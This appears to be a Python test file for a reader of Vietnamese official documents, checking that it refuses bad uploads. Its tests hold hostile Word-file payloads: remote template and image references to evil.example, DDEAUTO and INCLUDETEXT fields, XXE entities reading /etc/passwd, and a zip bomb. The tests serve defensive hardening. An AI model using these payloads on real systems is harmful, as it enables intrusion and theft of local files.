"""Whatever is uploaded: a reading or one Vietnamese sentence, never a traceback, never a fetch, never for ever."""

from __future__ import annotations

import io
import zipfile

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from core.errors import RuleError
from documents.read import Reading, read_file
from documents.read.citations import find_citations
from documents.read.dates import find_ranges
from tests.documents.word_files import DECLARATION, numbered, paragraph, part, relations, run, table, word_file

OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"


def read_or_sentence(data: bytes, filename: str) -> Reading | str:
    """The reading, or the sentence of the refusal; anything else raised is a failure of the test."""
    try:
        return read_file(data, filename)
    except RuleError as refused:
        assert refused.message.endswith("."), refused.message  # noqa: PT017 - both outcomes are right
        return refused.message


def refusal(data: bytes, filename: str) -> str:
    with pytest.raises(RuleError) as refused:
        read_file(data, filename)
    return refused.value.message


@pytest.mark.parametrize(
    ("data", "filename", "words"),
    [
        (OLE + b"WordDocument", "ke-hoach.doc", ".doc (Word 97–2003)"),
        (OLE + b"WordDocument", "ke-hoach.docx", ".doc (Word 97–2003)"),
        (OLE + "EncryptedPackage".encode("utf-16-le"), "ke-hoach.docx", "mật khẩu"),
        (b"%PDF-1.7 ...", "ke-hoach.pdf", "PDF"),
        (b"%PDF-1.7 ...", "ke-hoach.docx", "PDF"),
        (b"\x89PNG\r\n\x1a\n...", "quet.png", "bản quét"),
        (b"\xff\xd8\xff\xe0...", "quet.jpg", "bản quét"),
        (b"II*\x00....", "quet.tif", "bản quét"),
        (b"BM......", "quet.bmp", "bản quét"),
        (b"{\\rtf1 abc}", "ke-hoach.rtf", ".rtf"),
        (b"{\\rtf1 abc}", "ke-hoach.doc", ".rtf"),
        (b"abc", "ke-hoach.odt", ".odt"),
        (b"abc", "ke-hoach.docx", "hỏng"),
        (b"abc", "bang.csv", ".docx hoặc .txt"),
        (b"abc", "khong-duoi", ".docx hoặc .txt"),
        (b"", "ke-hoach.txt", "rỗng"),
        (b" \r\n\t ", "ke-hoach.txt", "rỗng"),
        (b"", "ke-hoach.docx", "rỗng"),
        (b"----\n****\n", "ke-hoach.txt", "không có chữ"),
        (bytes(range(256)) * 20, "ke-hoach.txt", "không phải là văn bản"),
        (b"PK\x03\x04" + b"\x00" * 200, "ke-hoach.docx", "hỏng"),
    ],
)
def test_other_files_are_refused_with_what_to_do(data: bytes, filename: str, words: str) -> None:
    message = refusal(data, filename)

    assert words in message
    assert "\n" not in message


def packed(**members: str | bytes) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members.items():
            archive.writestr(name.replace("__", "/").replace("_dot_", "."), content)
    return buffer.getvalue()


def test_a_zip_that_is_no_word_file_is_refused() -> None:
    assert "không phải là văn bản Word" in refusal(packed(readme_dot_txt="abc"), "ke-hoach.docx")
    odt = packed(mimetype="application/vnd.oasis.opendocument.text", content_dot_xml="<a/>")
    assert ".odt" in refusal(odt, "ke-hoach.docx")


def test_a_cut_off_word_file_is_refused() -> None:
    whole = word_file(*[paragraph(f"Câu {index}.") for index in range(200)])
    for length in (40, len(whole) // 2, len(whole) - 30):
        assert "hỏng" in refusal(whole[:length], "ke-hoach.docx")


def test_a_word_file_with_broken_xml_is_refused() -> None:
    assert "hỏng" in refusal(word_file(parts={"word/document.xml": "<w:document><w:body>"}), "a.docx")
    assert "hỏng" in refusal(word_file(parts={"word/document.xml": b""}), "a.docx")
    assert "không có phần văn bản" in refusal(word_file(parts={"word/document.xml": part("document", "")}), "a.docx")


def test_a_zip_bomb_is_refused_without_unpacking_it() -> None:
    bomb = word_file(paragraph("Nội dung."), parts={"word/media/image1.bin": b"\0" * 30_000_000})
    assert "quá lớn" in refusal(bomb, "a.docx")

    many = word_file(paragraph("Nội dung."), parts={f"word/media/{index}.bin": b"x" for index in range(2_100)})
    assert "quá lớn" in refusal(many, "a.docx")


def test_a_part_larger_than_the_directory_says_is_refused() -> None:
    body = part("document", f"<w:body>{paragraph('x' * 3_000)}</w:body>").encode()
    data = bytearray(word_file(parts={"word/document.xml": body}))
    size = len(body).to_bytes(4, "little")
    position = data.rfind(size)
    data[position : position + 4] = (10).to_bytes(4, "little")
    assert "hỏng" in refusal(bytes(data), "a.docx")


@pytest.mark.parametrize(
    ("member", "kind", "target"),
    [
        ("word/_rels/settings.xml.rels", "attachedTemplate", "http://evil.example/template.dotm"),
        ("word/_rels/settings.xml.rels", "attachedTemplate", "file://may-chu/mau/Normal.dotm"),
        ("word/_rels/settings.xml.rels", "attachedTemplate", "\\\\may-chu\\mau\\Normal.dotm"),
        ("word/_rels/document.xml.rels", "image", "http://evil.example/pixel.png"),
        ("word/_rels/document.xml.rels", "oleObject", "\\\\may-chu\\tep.xlsx"),
        ("word/_rels/header1.xml.rels", "frame", "http://evil.example/"),
    ],
)
def test_references_to_the_outside_are_refused(member: str, kind: str, target: str) -> None:
    data = word_file(paragraph("Nội dung."), parts={member: relations((kind, target, "External"))})

    assert "bên ngoài" in refusal(data, "a.docx")


@pytest.mark.parametrize("target", ["file:///C:\\Users\\a\\Mau.dotm", "C:/Mau/Mau.dotx", "Normal.dotm"])
def test_the_template_on_the_authors_own_disk_is_harmless(target: str) -> None:
    """Word writes it into many ordinary files; nothing is fetched for it."""
    template = relations(("attachedTemplate", target, "External"))
    data = word_file(paragraph("Nội dung."), parts={"word/_rels/settings.xml.rels": template})

    assert read_file(data, "a.docx").paper.content


def test_a_plain_hyperlink_is_harmless() -> None:
    link = relations(("hyperlink", "https://xa.example.vn", "External"))
    data = word_file(paragraph("Nội dung."), parts={"word/_rels/document.xml.rels": link})

    assert read_file(data, "a.docx").paper.content


@pytest.mark.parametrize(
    "instruction", ['INCLUDETEXT "http://evil.example/a.docx"', "DDEAUTO excel a b", ' LINK Word.Document "c:/a"']
)
def test_fields_that_pull_in_other_files_are_refused(instruction: str) -> None:
    complex_field = (
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        f"<w:r><w:instrText>{instruction}</w:instrText></w:r>"
        '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>x</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>'
    )
    simple = f"<w:fldSimple w:instr='{instruction}'>{run('x')}</w:fldSimple>"

    assert "bên ngoài" in refusal(word_file(paragraph(complex_field)), "a.docx")
    assert "bên ngoài" in refusal(word_file(paragraph(simple)), "a.docx")


def test_entities_are_never_expanded() -> None:
    document = part("document", f"<w:body>{paragraph('Mở &evil; ra').replace('&amp;', '&')}</w:body>")
    for definition in (
        '<!ENTITY evil SYSTEM "file:///etc/passwd">',
        '<!ENTITY evil "ha ha">',
        '<!ENTITY % x SYSTEM "http://evil.example/">',
    ):
        body = document.removeprefix(DECLARATION)
        data = word_file(parts={"word/document.xml": f"{DECLARATION}<!DOCTYPE w:document [{definition}]>{body}"})
        message = refusal(data, "a.docx")
        assert "không an toàn" in message or "hỏng" in message


def test_a_thousand_nested_tables_are_refused_and_not_climbed() -> None:
    inner = paragraph("đáy")
    for _ in range(1_000):
        inner = f"<w:tbl><w:tr><w:tc>{inner}</w:tc></w:tr></w:tbl>"
    assert "hỏng" in refusal(word_file(inner), "a.docx")


def test_numbers_and_spans_of_absurd_size_stay_small() -> None:
    levels = (
        '<w:abstractNum w:abstractNumId="1"><w:lvl w:ilvl="0"><w:start w:val="99999"/><w:numFmt w:val="upperLetter"/>'
        '<w:lvlText w:val="%1."/></w:lvl></w:abstractNum><w:num w:numId="1"><w:abstractNumId w:val="1"/></w:num>'
    )
    wide = '<w:tc><w:tcPr><w:gridSpan w:val="99999999"/></w:tcPr>' + paragraph("rộng") + "</w:tc>"
    data = word_file(
        numbered("Một", 1), table((wide, "bên"), ("a", "b")), parts={"word/numbering.xml": part("numbering", levels)}
    )

    paper = read_file(data, "a.docx").paper

    assert "Một" in str(paper.content)
    assert "rộng" in str(paper.content)


@pytest.mark.parametrize(
    "text",
    [
        "a" * 3_900_000,
        "x" + " " * 3_900_000 + "y",
        "*a " * 400_000,
        ("ngày" + "." * 500) * 2_000,
        "Số: " + "/KH-" * 500_000,
        "1. a\n" * 200_000,
        "1. Mục\n" * 20_000,
        "\n".join(".".join(["1"] * (index % 6 + 1)) + ". Mục" for index in range(20_000)),
        "TM. ỦY BAN\n" * 20_000,
        "UBND xã , " * 60_000,
        "[bookmark:" * 100_000,
        "Nguyễn Văn An\n" * 20_000,
        "“" * 1_000_000 + "a",
        "\n" * 3_900_000 + "a",
    ],
    ids=lambda text: repr(text[:12]),
)
def test_pathological_texts_come_to_an_end(text: str) -> None:
    outcome = read_or_sentence(text.encode(), "a.txt")

    if isinstance(outcome, str):
        assert "quá dài" in outcome
    else:
        paper = outcome.paper
        assert paper.content or paper.recipients or paper.signature or paper.symbol


def test_pathological_citations_and_dates_come_to_an_end() -> None:
    assert len(find_citations("số 1/KH-UBND " * 20_000)) == 1
    assert find_ranges("1/" * 200_000) == []
    assert find_citations("1/KH-" + "A-" * 200_000)[0].number == "1/KH-A-A-A-A-A"


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.binary(max_size=600), st.sampled_from(["a.txt", "a.docx", "a.doc", "", "a.TXT"]))
def test_any_bytes_give_a_reading_or_a_sentence(data: bytes, filename: str) -> None:
    outcome = read_or_sentence(data, filename)

    assert isinstance(outcome, str) or outcome.paper.as_json()


_PIECES = st.sampled_from(
    [
        "KẾ HOẠCH", "ỦY BAN NHÂN DÂN", "CỘNG HÒA XÃ HỘI CHỦ NGHĨA VIỆT NAM", "Số: 1/KH-UBND", "Số: /KH- UBND", "V/v họp",
        "Xã A, ngày tháng 4 năm 2024", "ngày 31/02/2024", "Căn cứ Luật;", "Kính gửi: B", "I. MỤC", "1. Một", "a) Hai",
        "1.1. Ba: bốn năm sáu bảy tám chín mười", "PHẦN I", "- gạch", "|- **đậm**", "| a | b |", "|---|---|", "Nơi nhận:",
        "- Lưu: VT.", "TM. ỦY BAN NHÂN DÂN", "KT. CHỦ TỊCH", "CHỦ TỊCH", "(Đã ký)", "Lê Văn A", "PHỤ LỤC I", "Trên đây là kế hoạch./.",
        "\t", "   ", "-----", "Độc lập - Tự do - Hạnh phúc", "QUYẾT ĐỊNH", "Điều 1. Làm", "năm", "ngày", "30/6/",
    ]
)  # fmt: skip


@settings(max_examples=100, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(
    st.lists(st.one_of(_PIECES, st.text(max_size=30)), min_size=1, max_size=40),
    st.sampled_from(["\n", "\n\n", " ", "\t"]),
)
def test_any_order_of_official_lines_gives_a_reading_or_a_sentence(pieces: list[str], between: str) -> None:
    text = between.join(pieces)
    outcome = read_or_sentence(text.encode("utf-8", errors="surrogatepass"), "a.txt")

    assert isinstance(outcome, str) or outcome.paper.as_json()
    find_citations(text)
    find_ranges(text)


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.integers(0, 5_000), st.binary(min_size=1, max_size=8))
def test_a_word_file_with_damaged_bytes_gives_a_reading_or_a_sentence(position: int, damage: bytes) -> None:
    data = bytearray(word_file(paragraph("KẾ HOẠCH"), numbered("Một", 1), table(("a", "b"), ("c", "d"))))
    position %= len(data)
    data[position : position + len(damage)] = damage
    outcome = read_or_sentence(bytes(data), "a.docx")

    assert isinstance(outcome, str) or outcome.paper.as_json()
